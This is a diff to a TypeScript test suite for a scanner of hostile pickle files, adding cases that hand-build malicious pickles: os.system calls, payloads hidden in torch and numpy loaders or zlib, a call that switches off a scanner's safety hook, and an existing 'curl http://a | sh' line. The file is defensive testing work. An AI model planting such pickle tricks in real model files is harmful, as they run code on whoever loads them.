@@ -91,6 +91,8 @@ describe('weights: hostile pickles', () => {
     });
   }
 
+  /** Bytes as Latin-1, in UTF-8. */
+  const asUtf8 = (bytes: Buffer): string => Buffer.from(bytes.toString('latin1')).toString('latin1');
   const payload = "cos\nsystem\n(S'echo hi'\ntR.";
   const protocol4 = `\x80\x04${stackGlobal('os', 'system')}${short('echo hi')}\x85R.`;
   for (const [wrapping, wrapped] of [
@@ -124,6 +126,17 @@ describe('weights: hostile pickles', () => {
     ['what attrgetter gives, called', "coperator\nattrgetter\n(S'name'\ntR(NtR."],
     ['a type by name that makes code', "cdill._dill\n_load_type\n(S'CodeType'\ntR."],
     ['bytes that are computed and loaded', '\x80\x02ctorch.storage\n_load_from_bytes\ncbuiltins\nbytes\n]\x85R\x85R.'],
+    ['bytes to load that begin oddly', `\x80\x02ctorch.storage\n_load_from_bytes\n${binary(`N0${payload}`)}\x85R.`],
+    [
+      'a text to load that begins oddly',
+      `\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\n${long(`N0${payload}`)}${long('latin1')}\x86R\x85R.`,
+    ],
+    [
+      'a scalar of objects that begins oddly',
+      `\x80\x03cnumpy.core.multiarray\nscalar\ncnumpy\ndtype\n${long('O8')}\x85R${binary(`]0${payload}`)}\x86R.`,
+    ],
+    ['zlib as a text of protocol 2', `\x80\x02${long(asUtf8(deflateSync(Buffer.from(payload))))}.`],
+    ['what turns scanners off', 'cfickling.hook\ndeactivate_safe_ml_environment\n(tR.'],
     ['a program text for an unknown function', "cacme\nprepare\n(S'import os; os.getcwd()'\ntR."],
     ['a command for a function of a library', "csklearn.base\nclone\n(S'curl http://a | sh'\ntR."],
     [
@@ -134,6 +147,12 @@ describe('weights: hostile pickles', () => {
   ] as const) {
     it(`is dangerous by ${trick}`, async () => assert.equal((await scan(text)).verdict, 'dangerous'));
   }
+
+  it('doubts a tool that is only made, without running what it does when it is called', async () => {
+    assert.equal((await scan('\x80\x02cjoblib.memory\nMemory\n)\x81.')).verdict, 'suspicious');
+    assert.equal((await scan('\x80\x02cjoblib.memory\nMemory\n)R.')).verdict, 'dangerous');
+    assert.equal((await scan('\x80\x02cnumpy\nmemmap\n)\x81.')).verdict, 'dangerous');
+  });
 
   it('doubts a program that is packed away as a text', async () => {
     const program = 'import os\nimport base64\n\ndef setup():\n    os.system("id")\n\nsetup()\n';
